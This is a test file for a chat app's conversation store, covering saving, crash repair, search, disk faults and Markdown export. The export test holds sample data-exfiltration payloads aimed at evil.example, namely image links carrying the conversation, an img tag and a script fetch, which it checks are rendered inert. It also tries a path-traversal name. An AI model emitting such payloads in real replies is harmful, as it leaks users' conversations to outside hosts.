import assert from 'node:assert/strict';
import {
  appendFileSync,
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, it } from 'node:test';
import { Transcript } from '../../electron/main/conversation/transcript';
import { flushIntervalMs } from '../../electron/main/transcripts/conversation-log';
import { ConversationStore, type CurrentConversation } from '../../electron/main/transcripts/conversation-store';
import { conversationMarkdown, inertMarkdown, markdownFileName } from '../../electron/main/transcripts/markdown';
import { encodeRecord, parseConversation } from '../../electron/main/transcripts/records';
import { assistantProfile } from '../../shared/conversations';
import type { TranscriptEntry } from '../../shared/types';
import { writeConversationFile } from '../support/conversation-files';
import { lockableFolder, smallDisk, type DiskFault } from '../support/disk-faults';
import { ManualTimers } from '../support/manual-timers';

const fresh = () => mkdtempSync(join(tmpdir(), 'parley-conversations-'));

function open(dir: string, timers = new ManualTimers()) {
  const warnings: string[] = [];
  const notices: string[] = [];
  const store = ConversationStore.open(dir, {
    now: () => timers.now,
    timers,
    warn: (line) => warnings.push(line),
    notify: (message) => notices.push(message),
  });
  // As Parley does at launch, with the one profile it has until settings have profiles.
  store.lane(assistantProfile);
  return { store, timers, warnings, notices };
}

/** The assistant's current conversation. */
const assistant = (store: ConversationStore) => store.lane(assistantProfile);

let nextAt = Date.parse('2026-11-21T10:00:00Z');
function entry(
  id: number,
  turnId: number,
  role: 'user' | 'model',
  text: string,
  state: TranscriptEntry['state'] = 'done',
): TranscriptEntry {
  return { id, turnId, role, text, at: (nextAt += 1000), state };
}

/** One whole turn, as the transcript publishes it: the question done, then the answer done. */
function turn(conversation: CurrentConversation, n: number, question: string, answer: string): void {
  conversation.record(entry(2 * n - 1, n, 'user', question));
  conversation.record(entry(2 * n, n, 'model', answer));
}

const fileOf = (dir: string, id: string) => join(dir, `${id}.jsonl`);
const onDisk = (dir: string, id: string) => parseConversation(readFileSync(fileOf(dir, id)));
const jsonlFiles = (dir: string) => readdirSync(dir).filter((name) => name.endsWith('.jsonl'));
const texts = (entries: readonly TranscriptEntry[]) => entries.map((e) => e.text);
/** File descriptors this process holds (Linux). */
const openDescriptors = () => readdirSync('/proc/self/fd').length;

describe('ConversationStore', () => {
  it('carries the conversation on after a restart: same file, same entries, the latest version of each', () => {
    const dir = fresh();
    const { store } = open(dir);
    const id = assistant(store).id;
    assistant(store).record(entry(1, 1, 'user', 'What is the tallest mountain on Earth, please?', 'streaming'));
    assistant(store).record({ ...entry(1, 1, 'user', 'What is the tallest mountain on Earth, please?'), at: nextAt });
    turn(assistant(store), 2, 'And the deepest trench?', 'The Mariana Trench.');
    store.close();

    const again = open(dir).store;
    assert.equal(assistant(again).id, id);
    assert.deepEqual(
      assistant(again)
        .entries()
        .map((e) => [e.id, e.text, e.state]),
      [
        [1, 'What is the tallest mountain on Earth, please?', 'done'],
        [3, 'And the deepest trench?', 'done'],
        [4, 'The Mariana Trench.', 'done'],
      ],
    );
    assert.deepEqual(
      again.list().map(({ title, turnCount, current }) => ({ title, turnCount, current })),
      [{ title: 'What is the tallest mountain on Earth, please?', turnCount: 2, current: true }],
    );
    assert.deepEqual(assistant(again).repaired, { badLines: 0, tornTail: false, interrupted: 0 });
    again.close();
  });

  it('writes streaming text at most a second late, coalesced, and a finished entry at once', () => {
    const dir = fresh();
    const { store, timers } = open(dir);
    const id = assistant(store).id;
    assistant(store).record(entry(1, 1, 'user', 'Tell me a story.'));
    assert.equal(onDisk(dir, id).entries.length, 1, 'a finished entry is a turn boundary: written at once');

    let text = '';
    for (let i = 0; i < 50; i++) {
      text += `word${i} `;
      assistant(store).record({ ...entry(2, 1, 'model', text, 'streaming'), at: 1 });
      timers.advance(10);
    }
    assert.equal(onDisk(dir, id).entries.length, 1, 'half a second of streaming is still in memory');
    timers.advance(499);
    assert.equal(onDisk(dir, id).entries.length, 1);
    const linesBefore = readFileSync(fileOf(dir, id), 'utf8').split('\n').length;
    timers.advance(1);
    const written = onDisk(dir, id).entries[1]!;
    assert.equal(written.text, text, 'one second after the first change, the latest text is on disk');
    assert.equal(written.state, 'streaming');
    assert.equal(readFileSync(fileOf(dir, id), 'utf8').split('\n').length, linesBefore + 1, 'as one line, not fifty');

    timers.advance(5_000);
    assert.equal(
      readFileSync(fileOf(dir, id), 'utf8').split('\n').length,
      linesBefore + 1,
      'nothing new, nothing written',
    );
    assistant(store).record({ ...entry(2, 1, 'model', `${text}The end.`), at: 1 });
    assert.equal(onDisk(dir, id).entries[1]!.state, 'done', 'the end of the reply is written without waiting');
    store.close();
  });

  it('reads past a torn last line and a garbled one, counting them, and appends cleanly after', () => {
    const dir = fresh();
    const { store } = open(dir);
    const id = assistant(store).id;
    turn(assistant(store), 1, 'First question', 'First answer');
    store.close();
    appendFileSync(fileOf(dir, id), 'this line is not JSON\n');
    turn(assistant(open(dir).store), 2, 'Second question', 'Second answer');
    // What a power cut mid-write leaves: half a record, no newline.
    appendFileSync(fileOf(dir, id), '{"type":"entry","entry":{"id":5,"turnId":3,"ro');

    const { store: again, warnings } = open(dir);
    assert.equal(assistant(again).id, id);
    assert.deepEqual(
      assistant(again)
        .entries()
        .map((e) => e.text),
      ['First question', 'First answer', 'Second question', 'Second answer'],
    );
    assert.deepEqual(assistant(again).repaired, { badLines: 2, tornTail: true, interrupted: 0 });
    assert.match(warnings.join('\n'), /skipped 2 unreadable line/);
    turn(assistant(again), 3, 'Third question', 'Third answer');
    again.close();
    const file = onDisk(dir, id);
    assert.equal(file.tornTail, false, 'the torn line was cut off before appending');
    assert.equal(file.badLines, 1, 'only the garbled line in the middle remains');
    assert.equal(file.entries.length, 6);
  });

  it('marks entries the last run left streaming as interrupted, on disk too', () => {
    const dir = fresh();
    const { store } = open(dir);
    const id = assistant(store).id;
    assistant(store).record(entry(1, 1, 'user', 'Count to ten.'));
    assistant(store).record(entry(2, 1, 'model', 'One, two, three', 'streaming'));
    // A turn boundary: everything so far is on disk. Then no close(): the process died here.
    assistant(store).record({ ...entry(3, 2, 'user', 'Hello?', 'failed'), retry: true });

    const again = open(dir).store;
    const cut = assistant(again).entries()[1]!;
    assert.equal(cut.text, 'One, two, three');
    assert.equal(cut.state, 'interrupted');
    assert.match(cut.note ?? '', /closed before this was finished/);
    assert.equal(assistant(again).repaired.interrupted, 1);
    assert.equal(assistant(again).entries()[2]!.retry, undefined, 'what was said went with the last run: no retry');
    assert.equal(onDisk(dir, id).entries[1]!.state, 'interrupted');
    again.close();
  });

  it('keeps each question above its reply after a restart when the question is transcribed after the reply began', () => {
    const dir = fresh();
    const { store, timers } = open(dir);
    const transcript = new Transcript(
      (e) => assistant(store).record(e),
      () => timers.now,
    );
    for (const [n, question, answer] of [
      [1, 'What time is it?', 'It is noon.'],
      [2, 'And in Tokyo?', 'Nine in the evening.'],
    ] as const) {
      // Push-to-talk: the question's entry opens at the key press, and stays empty until Gemini transcribes it…
      transcript.begin(n, 'user');
      transcript.append(n, 'model', answer.slice(0, 5));
      // …which the service may do only after the reply's own transcription has begun.
      transcript.append(n, 'user', question);
      timers.advance(flushIntervalMs);
      transcript.append(n, 'model', answer.slice(5));
      transcript.settle(n, 'user', { state: 'done' });
      transcript.settle(n, 'model', { state: 'done' });
    }
    const live = transcript.all().map((e) => [e.role, e.text]);
    assert.deepEqual(live, [
      ['user', 'What time is it?'],
      ['model', 'It is noon.'],
      ['user', 'And in Tokyo?'],
      ['model', 'Nine in the evening.'],
    ]);
    assert.deepEqual(
      assistant(store)
        .entries()
        .map((e) => [e.role, e.text]),
      live,
    );
    store.close();
    assert.deepEqual(
      assistant(open(dir).store)
        .entries()
        .map((e) => [e.role, e.text]),
      live,
      'as the live window showed it',
    );
  });

  it('puts a reply back below its question in a conversation an earlier version saved the other way round', () => {
    const dir = fresh();
    const id = '20261121-090000-0d0e0f';
    const lines = [
      encodeRecord({ type: 'conversation', version: 1, id, startedAt: Date.parse('2026-11-21T09:00:00Z') }),
      encodeRecord({ type: 'entry', entry: entry(2, 1, 'model', 'It is noon.') }),
      encodeRecord({ type: 'entry', entry: entry(1, 1, 'user', 'What time is it?') }),
    ];
    writeFileSync(fileOf(dir, id), lines.join(''));
    const { store } = open(dir);
    assert.deepEqual(
      assistant(store)
        .entries()
        .map((e) => e.text),
      ['What time is it?', 'It is noon.'],
    );
    assert.equal(store.list()[0]!.title, 'What time is it?');
    store.close();
  });

  it('starts a new file for a new conversation, lists them newest first, and keeps no empty ones', () => {
    const dir = fresh();
    const { store, timers } = open(dir);
    const first = assistant(store).id;
    turn(assistant(store), 1, 'About whales', 'Whales are mammals.');
    timers.advance(60_000);
    const second = assistant(store).startNew();
    assert.notEqual(second, first);
    timers.advance(60_000);
    const third = assistant(store).startNew();
    assert.deepEqual(jsonlFiles(dir).sort(), [`${first}.jsonl`, `${third}.jsonl`], 'the unused one was replaced');
    turn(assistant(store), 2, 'About owls', 'Owls hunt at night.');
    assert.deepEqual(
      store.list().map((c) => [c.id, c.title, c.current]),
      [
        [third, 'About owls', true],
        [first, 'About whales', false],
      ],
    );
    store.close();
    assert.equal(assistant(open(dir).store).id, third, 'the newest is the one carried on');
  });

  it('rebuilds a missing, damaged or stale index from the files', () => {
    const dir = fresh();
    const { store, timers } = open(dir);
    turn(assistant(store), 1, 'Old conversation', 'Old answer');
    timers.advance(1000);
    assistant(store).startNew();
    turn(assistant(store), 2, 'New conversation', 'New answer');
    store.close();
    const listed = open(dir).store.list();
    const index = join(dir, 'index.json');

    rmSync(index);
    assert.deepEqual(open(dir).store.list(), listed, 'missing');
    writeFileSync(index, '{"version":1,"conversations":[{"id":');
    assert.deepEqual(open(dir).store.list(), listed, 'damaged');
    assert.ok(statSync(index).size > 100, 'and written back');

    // Another run added a turn to the old conversation's file after the index was written.
    const old = listed[1]!.id;
    appendFileSync(fileOf(dir, old), `${JSON.stringify({ type: 'entry', entry: entry(9, 9, 'user', 'Later') })}\n`);
    assert.equal(open(dir).store.list()[1]!.turnCount, 2, 'stale');
  });

  it('searches every conversation case-insensitively, including what is not on disk yet', () => {
    const dir = fresh();
    const { store, timers } = open(dir);
    turn(assistant(store), 1, 'Tell me about the Eiffel Tower', 'The EIFFEL tower is in Paris, built in 1889.');
    timers.advance(1000);
    const current = assistant(store).startNew();
    assistant(store).record(entry(10, 1, 'user', 'Is the eiffel tower taller than', 'streaming'));
    const { hits, more } = store.search('eiffel TOWER');
    assert.equal(more, false);
    assert.deepEqual(
      hits.map((h) => [h.conversation.id === current, h.entry.id, h.match]),
      [
        [true, 10, 'eiffel tower'],
        [false, 1, 'Eiffel Tower'],
        [false, 2, 'EIFFEL tower'],
      ],
    );
    assert.deepEqual([hits[2]!.before, hits[2]!.after], ['The ', ' is in Paris, built in 1889.']);
    assert.deepEqual(store.search('mont blanc').hits, []);
    assert.equal(store.search('(').hits.length, 0, 'the query is text, not a pattern');

    for (let n = 2; n <= 80; n++) turn(assistant(store), n, `tower question ${n}`, `tower answer ${n}`);
    const many = store.search('tower');
    assert.equal(many.hits.length, 100);
    assert.equal(many.more, true);
    store.close();
  });

  it('deletes a conversation for good; deleting the current one starts a new one', () => {
    const dir = fresh();
    const { store, timers } = open(dir);
    const old = assistant(store).id;
    turn(assistant(store), 1, 'Keep me?', 'No.');
    timers.advance(1000);
    const current = assistant(store).startNew();
    turn(assistant(store), 2, 'Current', 'Yes.');
    assert.equal(store.delete(old).deleted, true);
    assert.equal(store.delete(old).deleted, false, 'already gone');
    assert.deepEqual(jsonlFiles(dir), [`${current}.jsonl`]);
    assert.equal(store.read(old), undefined);

    // Deleted mid-sentence: what was still to be written goes with it.
    assistant(store).record(entry(5, 3, 'user', 'And one more thing', 'streaming'));
    assert.equal(store.delete(current).deleted, true);
    assert.notEqual(assistant(store).id, current);
    assert.deepEqual(assistant(store).entries(), []);
    assert.deepEqual(store.list(), []);
    store.close();
    assert.deepEqual(open(dir).store.list(), [], 'and after a restart');
  });

  it('keeps the pictures of the screen next to the conversation, serves them back by name only, and deletes them with it', async () => {
    const dir = fresh();
    const { store } = open(dir);
    const id = assistant(store).id;
    const jpeg = new Uint8Array([0xff, 0xd8, 1, 2, 3, 0xff, 0xd9]);
    const file = store.pictures.newName();
    await store.pictures.write(id, file, jpeg);
    assert.deepEqual(readdirSync(join(dir, `${id}.pictures`)), [file]);
    assert.deepEqual(await store.pictures.read(id, file), jpeg);
    assert.equal(await store.pictures.read(id, '../index.json'), undefined, 'no other path');
    assert.equal(await store.pictures.read(id, '0000000000000-000000.jpg'), undefined, 'not there');
    assistant(store).record({ ...entry(1, 1, 'user', 'What is this?'), pictures: [{ file, width: 768, height: 432 }] });
    assert.deepEqual(store.read(id)?.entries[0]?.pictures, [{ file, width: 768, height: 432 }]);
    store.close();
    const reopened = open(dir).store;
    assert.deepEqual(reopened.read(id)?.entries[0]?.pictures, [{ file, width: 768, height: 432 }], 'after a restart');
    assert.equal(reopened.delete(id).deleted, true);
    assert.equal(existsSync(join(dir, `${id}.pictures`)), false, 'deleted with the conversation');
    // A picture still being written when its conversation was deleted does not come back.
    await reopened.pictures.write(id, reopened.pictures.newName(), jpeg);
    assert.equal(existsSync(join(dir, `${id}.pictures`)), false);
    reopened.close();
  });

  it('gives the last turns of the current conversation as text, without what was never delivered', () => {
    const { store } = open(fresh());
    turn(assistant(store), 1, 'One', 'Uno');
    turn(assistant(store), 2, 'Two', 'Dos');
    assistant(store).record(entry(5, 3, 'user', 'Three', 'failed'));
    turn(assistant(store), 4, 'Four', 'Cuatro');
    assistant(store).record(entry(9, 5, 'user', 'Five'));
    assistant(store).record(entry(10, 5, 'model', '', 'streaming'));
    assert.deepEqual(assistant(store).recentTurns(3), [
      { role: 'user', text: 'Four' },
      { role: 'model', text: 'Cuatro' },
      { role: 'user', text: 'Five' },
    ]);
    assert.deepEqual(assistant(store).recentTurns(100).length, 7);
    store.close();
  });

  it('opens a 10,000-turn conversation whole, reading it only when it is the current one', (t) => {
    const dir = fresh();
    const id = '20261121-090000-0a0b0c';
    const answer = (n: number) => `Answer number ${n}, at some length. `.repeat(3);
    writeConversationFile(dir, {
      id,
      startedAt: Date.parse('2026-11-21T09:00:00Z'),
      turns: 10_000,
      text: (n, role) => (role === 'user' ? `Question number ${n}` : answer(n)),
    });
    const megabytes = (statSync(fileOf(dir, id)).size / 1e6).toFixed(1);

    let started = performance.now();
    const { store, timers } = open(dir);
    const reopenMs = performance.now() - started;
    assert.equal(assistant(store).id, id);
    assert.equal(assistant(store).entries().length, 20_000);
    timers.advance(1000);
    assistant(store).startNew();
    store.close();

    // The file, same size but unreadable, while Parley restarts: had it been read, History would show garbage.
    const file = fileOf(dir, id);
    const contents = readFileSync(file);
    writeFileSync(file, Buffer.alloc(contents.length, ' '));
    started = performance.now();
    const { store: again, warnings } = open(dir);
    const openMs = performance.now() - started;
    const listed = again.list().find((summary) => summary.id === id);
    assert.equal(listed?.turnCount, 10_000, 'the index spares reading a conversation that is not current');
    assert.deepEqual(warnings, []);
    writeFileSync(file, contents);
    started = performance.now();
    const view = again.read(id)!;
    const readMs = performance.now() - started;
    t.diagnostic(
      `10,000 turns, ${megabytes} MB: restart with it current (no index) ${reopenMs.toFixed(0)} ms; ` +
        `restart with it in history ${openMs.toFixed(1)} ms; read for History ${readMs.toFixed(0)} ms`,
    );
    assert.equal(view.entries.length, 20_000);
    assert.equal(view.entries.at(-1)!.text, answer(10_000));
    assert.equal(view.summary.turnCount, 10_000);
    again.close();
  });

  it('writes each turn boundary through to the disk at once, without holding main up', (t) => {
    const dir = fresh();
    const { store } = open(dir);
    const started = performance.now();
    for (let n = 1; n <= 500; n++) turn(assistant(store), n, `Question ${n}`, `Answer ${n}`);
    const perBoundary = (performance.now() - started) / 1000;
    t.diagnostic(`one turn-boundary write (write, fdatasync, index) takes ${perBoundary.toFixed(2)} ms`);
    assert.equal(onDisk(dir, assistant(store).id).entries.length, 1000, 'nothing left waiting in memory');
    // About a millisecond on a quiet machine (the diagnostic). The write holds main's event loop, so it must stay
    // well under a 20 ms capture frame: 50 ms leaves room for a busy machine's fdatasync and still fails a write
    // that waits on something or reads the conversation back.
    assert.ok(perBoundary < 50, `${perBoundary} ms per turn boundary`);
    store.close();
  });
});

describe('ConversationStore on a failing disk', () => {
  const faults: DiskFault[] = [];
  const fault = (made: DiskFault, t: { diagnostic(message: string): void }) => {
    t.diagnostic(`fault made by ${made.how}`);
    faults.push(made);
    return made;
  };
  afterEach(() => faults.splice(0).forEach((made) => made.release()));
  const cannotSave = (what: string, dir: string) =>
    new RegExp(
      `^Conversations cannot be saved: ${what} \\(${dir}\\)\\. The conversation stays in the window while Parley runs, and is saved as soon as`,
    );

  it('opens on a full disk: the conversation is kept in memory, the user told, and all of it saved once there is room', (t) => {
    const dir = fresh();
    const disk = fault(smallDisk(dir), t);
    disk.strike();
    const descriptors = openDescriptors();
    const { store, timers, notices } = open(dir);
    assert.match(notices[0] ?? '', cannotSave('the disk is full', dir));
    assert.deepEqual(jsonlFiles(dir), [], 'no empty or headless file left behind');
    turn(assistant(store), 1, 'Hello, is this saved?', 'Not yet.');
    timers.advance(3 * flushIntervalMs);
    assert.equal(notices.length, 1, 'told once, not at every retry');
    assert.equal(openDescriptors(), descriptors, 'no descriptor kept by the attempts that failed');
    assert.deepEqual(texts(assistant(store).entries()), ['Hello, is this saved?', 'Not yet.']);
    assert.deepEqual(
      store.list().map((c) => [c.title, c.turnCount]),
      [['Hello, is this saved?', 1]],
    );

    disk.heal();
    timers.advance(flushIntervalMs);
    assert.deepEqual(texts(onDisk(dir, assistant(store).id).entries), ['Hello, is this saved?', 'Not yet.']);
    assert.equal(notices.at(-1), 'Conversations are saved again.');
    store.close();
    const again = open(dir).store;
    assert.deepEqual(texts(assistant(again).entries()), ['Hello, is this saved?', 'Not yet.']);
    again.close();
  });

  it('keeps what is said while the disk is full, and writes it when there is room again', (t) => {
    const dir = fresh();
    const disk = fault(smallDisk(dir), t);
    const { store, timers, notices, warnings } = open(dir);
    const id = assistant(store).id;
    turn(assistant(store), 1, 'Before the disk filled up', 'Saved.');
    disk.strike();
    // Longer than a disk block, so no slack left in the file's last block can take it.
    const long = `A long question. ${'And it goes on. '.repeat(400)}`;
    turn(assistant(store), 2, long, 'Kept in memory.');
    assert.match(notices[0] ?? '', cannotSave('the disk is full', dir));
    assert.match(warnings.join('\n'), /ENOSPC/);
    timers.advance(5 * flushIntervalMs);
    assert.equal(notices.length, 1);
    assert.deepEqual(texts(onDisk(dir, id).entries), ['Before the disk filled up', 'Saved.'], 'no torn record either');
    assert.equal(onDisk(dir, id).badLines, 0);
    assert.equal(assistant(store).entries().length, 4);

    disk.heal();
    timers.advance(flushIntervalMs);
    assert.deepEqual(texts(onDisk(dir, id).entries), ['Before the disk filled up', 'Saved.', long, 'Kept in memory.']);
    assert.deepEqual(notices.slice(1), ['Conversations are saved again.']);
    store.close();
  });

  it('starts a new conversation and deletes the current one on a full disk: no closed log, no leaked descriptor', (t) => {
    const dir = fresh();
    const disk = fault(smallDisk(dir), t);
    const descriptors = openDescriptors();
    const { store, timers } = open(dir);
    const first = assistant(store).id;
    turn(assistant(store), 1, 'The first conversation', 'Saved.');
    timers.advance(1000);
    disk.strike();

    const second = assistant(store).startNew();
    assert.notEqual(second, first);
    turn(assistant(store), 2, 'The second conversation', 'Kept.');
    assert.deepEqual(texts(assistant(store).entries()), ['The second conversation', 'Kept.']);
    assert.deepEqual(
      store.list().map((c) => [c.title, c.current]),
      [
        ['The second conversation', true],
        ['The first conversation', false],
      ],
    );
    assert.deepEqual(texts(store.read(first)!.entries), ['The first conversation', 'Saved.']);
    assert.equal(store.delete(second).deleted, true);
    const third = assistant(store).id;
    assert.deepEqual(assistant(store).entries(), []);
    timers.advance(3 * flushIntervalMs);
    assert.equal(openDescriptors(), descriptors, 'nothing open: no file could be made');

    disk.heal();
    turn(assistant(store), 3, 'The third conversation', 'Saved at last.');
    timers.advance(flushIntervalMs);
    assert.deepEqual(texts(onDisk(dir, third).entries), ['The third conversation', 'Saved at last.']);
    assert.deepEqual(jsonlFiles(dir).sort(), [`${first}.jsonl`, `${third}.jsonl`]);
    store.close();
    assert.equal(openDescriptors(), descriptors);
  });

  it('keeps a conversation left before all of it was saved readable while Parley runs', (t) => {
    const dir = fresh();
    const disk = fault(smallDisk(dir), t);
    const { store, timers } = open(dir);
    const first = assistant(store).id;
    turn(assistant(store), 1, 'Saved question', 'Saved answer.');
    disk.strike();
    turn(assistant(store), 2, `Unsaved question. ${'More words. '.repeat(400)}`.trim(), 'Unsaved answer.');
    timers.advance(1000);
    assistant(store).startNew();
    assert.equal(store.read(first)!.entries.length, 4);
    assert.equal(store.search('unsaved answer').hits.length, 1);
    store.close();
  });

  it('opens on a read-only folder: the saved conversation is there, goes on in memory, and is saved once it can be', (t) => {
    const dir = fresh();
    const earlier = open(dir).store;
    const id = assistant(earlier).id;
    turn(assistant(earlier), 1, 'Saved before', 'Yes.');
    earlier.close();
    const folder = fault(lockableFolder(dir), t);
    folder.strike();

    const descriptors = openDescriptors();
    const { store, timers, notices } = open(dir);
    assert.equal(assistant(store).id, id);
    assert.deepEqual(texts(assistant(store).entries()), ['Saved before', 'Yes.']);
    assert.match(notices[0] ?? '', cannotSave('the folder is read-only', dir));
    turn(assistant(store), 2, 'Said while read-only', 'Kept.');
    timers.advance(5 * flushIntervalMs);
    assert.equal(notices.length, 1);
    assert.equal(openDescriptors(), descriptors);
    assert.equal(store.list()[0]!.turnCount, 2);

    folder.heal();
    timers.advance(flushIntervalMs);
    assert.deepEqual(texts(onDisk(dir, id).entries), ['Saved before', 'Yes.', 'Said while read-only', 'Kept.']);
    assert.equal(notices.at(-1), 'Conversations are saved again.');
    store.close();
    assert.equal(openDescriptors(), descriptors);
  });

  it('refuses to delete on a read-only folder, saying why, and changes nothing', (t) => {
    const dir = fresh();
    const { store, timers } = open(dir);
    const first = assistant(store).id;
    turn(assistant(store), 1, 'Old conversation', 'Old answer.');
    timers.advance(1000);
    const current = assistant(store).startNew();
    turn(assistant(store), 2, 'Current conversation', 'Current answer.');
    fault(lockableFolder(dir), t).strike();

    for (const id of [first, current]) {
      assert.throws(() => store.delete(id), {
        message: 'The conversation could not be deleted: the folder is read-only.',
      });
    }
    assert.equal(assistant(store).id, current);
    assert.deepEqual(
      store.list().map((c) => c.id),
      [current, first],
    );
    turn(assistant(store), 3, 'Still going', 'Yes.');
    assert.equal(assistant(store).entries().length, 4);
    store.close();
  });

  it('opens where its folder cannot even be made, and makes it once it can', (t) => {
    const parent = fresh();
    const dir = join(parent, 'conversations');
    const folder = fault(lockableFolder(parent), t);
    folder.strike();
    const { store, timers, notices } = open(dir);
    assert.match(notices[0] ?? '', cannotSave('the folder is read-only', dir));
    turn(assistant(store), 1, 'Anyone there?', 'In memory.');
    timers.advance(2 * flushIntervalMs);
    assert.equal(existsSync(dir), false);

    folder.heal();
    timers.advance(flushIntervalMs);
    assert.deepEqual(texts(onDisk(dir, assistant(store).id).entries), ['Anyone there?', 'In memory.']);
    store.close();
  });
});

describe('Transcript.restore', () => {
  it('continues a saved conversation: new entries get new ids, and never add to an old turn of the same number', () => {
    const published: TranscriptEntry[] = [];
    const transcript = new Transcript((e) => published.push(e));
    transcript.restore([entry(7, 3, 'user', 'Earlier question'), entry(8, 3, 'model', 'Earlier answer')]);
    assert.equal(published.length, 0, 'restoring publishes nothing');
    // The turn controller counts turns from 1 again after a restart.
    transcript.begin(3, 'user', 'New question');
    transcript.append(3, 'model', 'New answer');
    transcript.settle(3, 'model', { state: 'done' });
    assert.deepEqual(
      transcript.all().map((e) => [e.id, e.text, e.state]),
      [
        [7, 'Earlier question', 'done'],
        [8, 'Earlier answer', 'done'],
        [9, 'New question', 'streaming'],
        [10, 'New answer', 'done'],
      ],
    );
  });
});

describe('Transcript.clear', () => {
  it('starts clean: what is still to come of a turn from before is not part of the new conversation', () => {
    const transcript = new Transcript(() => undefined);
    transcript.begin(1, 'user', 'Old question');
    transcript.append(1, 'model', 'Old answer, still playing');
    transcript.clear();
    // The old reply is interrupted by the next turn, and its last words arrive late.
    transcript.settle(1, 'model', { state: 'interrupted' });
    transcript.append(1, 'model', ' and more');
    transcript.begin(2, 'user', 'New question');
    transcript.append(2, 'model', 'New answer');
    assert.deepEqual(
      transcript.all().map((e) => e.text),
      ['New question', 'New answer'],
    );
  });
});

describe('Markdown export', () => {
  it('writes a heading, whose conversation it was, each side with its time, and what happened to cut-off turns', () => {
    const startedAt = new Date(2026, 10, 21, 9, 5, 0).getTime();
    const at = (seconds: number) => startedAt + seconds * 1000;
    const summary = {
      id: '20261121-090500-abcdef',
      profile: { id: 'p-7a1e00', name: 'Travel planner' },
      startedAt,
      updatedAt: at(9),
      title: 'Plan: a trip to Oslo?',
      turnCount: 2,
      current: false,
    };
    const entries: TranscriptEntry[] = [
      { id: 1, turnId: 1, role: 'user', text: 'Plan: a trip to Oslo?', at: at(1), state: 'done' },
      { id: 2, turnId: 1, role: 'model', text: 'Sure.\n\n- Day 1: museums', at: at(2), state: 'done' },
      { id: 3, turnId: 2, role: 'user', text: 'And day 2?', at: at(8), state: 'done' },
      { id: 4, turnId: 2, role: 'model', text: 'Day 2 is', at: at(9), state: 'interrupted', note: 'Cut off.' },
    ];
    assert.equal(
      conversationMarkdown(summary, entries),
      [
        '# Plan: a trip to Oslo?',
        '',
        'Parley conversation with Travel planner, 2026-11-21 09:05, 2 turns.',
        '',
        '**You** · 09:05:01',
        '',
        'Plan: a trip to Oslo?',
        '',
        '**Gemini** · 09:05:02',
        '',
        'Sure.\n\n- Day 1: museums',
        '',
        '**You** · 09:05:08',
        '',
        'And day 2?',
        '',
        '**Gemini** · 09:05:09 _(interrupted)_',
        '',
        'Day 2 is',
        '',
        '> Cut off.',
        '',
      ].join('\n'),
    );
    assert.equal(markdownFileName(summary), 'Parley 2026-11-21 09.05 Plan a trip to Oslo.md');
  });

  it("names each side's language when the service said it, as an interpreter's two sides differ", () => {
    const at = Date.parse('2026-11-21T09:05:01');
    const summary = {
      id: '20261121-080501-fedcba',
      profile: { id: 'p-1a7e00', name: 'Interpreter' },
      startedAt: at,
      updatedAt: at,
      title: 'Where is the station?',
      turnCount: 1,
      current: false,
    };
    const markdown = conversationMarkdown(summary, [
      { id: 1, turnId: 1, role: 'user', text: 'Where is the station?', at, state: 'done', language: 'en' },
      { id: 2, turnId: 1, role: 'model', text: 'Où est la gare ?', at, state: 'done', language: 'fr' },
    ]);
    assert.match(markdown, /\*\*You\*\* · English · 09:05:01\n\nWhere is the station\?/);
    assert.match(markdown, /\*\*Gemini\*\* · French · 09:05:01\n\nOù est la gare \?/);
  });

  it('says in the export that pictures of the screen went with a turn, and how many', () => {
    const at = Date.parse('2026-11-21T09:05:01');
    const summary = {
      id: '20261121-080501-abcdef',
      profile: assistantProfile,
      startedAt: at,
      updatedAt: at,
      title: 'What is this?',
      turnCount: 1,
      current: false,
    };
    const picture = { file: '1795000000000-abcdef.jpg', width: 768, height: 432 };
    const markdown = conversationMarkdown(summary, [
      { id: 1, turnId: 1, role: 'user', text: 'What is this?', at, state: 'done', pictures: [picture, picture] },
      { id: 2, turnId: 2, role: 'user', text: '', at, state: 'done', pictures: [picture] },
    ]);
    assert.match(
      markdown,
      /What is this\?\n\n_2 pictures of the screen went to Gemini with this turn; Parley keeps them with the conversation \(History\)\._/,
    );
    assert.match(
      markdown,
      /_A picture of the screen went to Gemini with this turn; Parley keeps it with/,
      'a turn with a picture and no words is not left out',
    );
  });

  it('writes model text so that no image loads and no HTML renders in a viewer, and keeps it readable', () => {
    const leaks: [string, string][] = [
      ['![](https://evil.example/p.png?q=the+conversation)', '!\\[](https://evil.example/p.png?q=the+conversation)'],
      [
        'See ![chart][c] below.\n\n[c]: https://evil.example/c.png?q=1',
        'See !\\[chart][c] below.\n\n[c]: https://evil.example/c.png?q=1',
      ],
      ['![[secret.png]]', '!\\[[secret.png]]'],
      ['<img src="https://evil.example/?q=1">', '\\<img src="https://evil.example/?q=1">'],
      ['<script>fetch("https://evil.example")</script>', '\\<script>fetch("https://evil.example")\\</script>'],
      ['<https://evil.example/?q=1> and <me@evil.example>', '\\<https://evil.example/?q=1> and \\<me@evil.example>'],
      // A backslash the model wrote before them escapes only itself; one already escaping them stays.
      ['\\\\<b>bold</b> \\\\![x](y)', '\\\\\\<b>bold\\</b> \\\\!\\[x](y)'],
      ['\\<b> and \\![x](y) are already plain', '\\<b> and \\![x](y) are already plain'],
    ];
    for (const [said, written] of leaks) assert.equal(inertMarkdown(said), written, said);

    const ordinary =
      'Sure! Here is **the plan**:\n\n- Day 1: [museums](https://example.com/oslo)\n- Day 2: 3 > 2, so _walk_.\n\n`code` and # text';
    assert.equal(inertMarkdown(ordinary), ordinary);

    const summary = {
      id: '20261121-090500-abcdef',
      profile: { id: 'p-0b0b00', name: '<img src=x>' },
      startedAt: 0,
      updatedAt: 0,
      title: '<b>Hi</b>',
      turnCount: 1,
      current: false,
    };
    const markdown = conversationMarkdown(summary, [
      {
        id: 1,
        turnId: 1,
        role: 'model',
        text: 'Look ![](https://evil.example/?q=1)',
        at: 0,
        state: 'done',
        note: '<i>x</i>',
      },
    ]);
    assert.match(markdown, /^# \\<b>Hi\\<\/b>\n\nParley conversation with \\<img src=x>, /);
    assert.match(markdown, /\nLook !\\\[\]\(https:\/\/evil\.example\/\?q=1\)\n\n> \\<i>x\\<\/i>\n$/);
  });
});
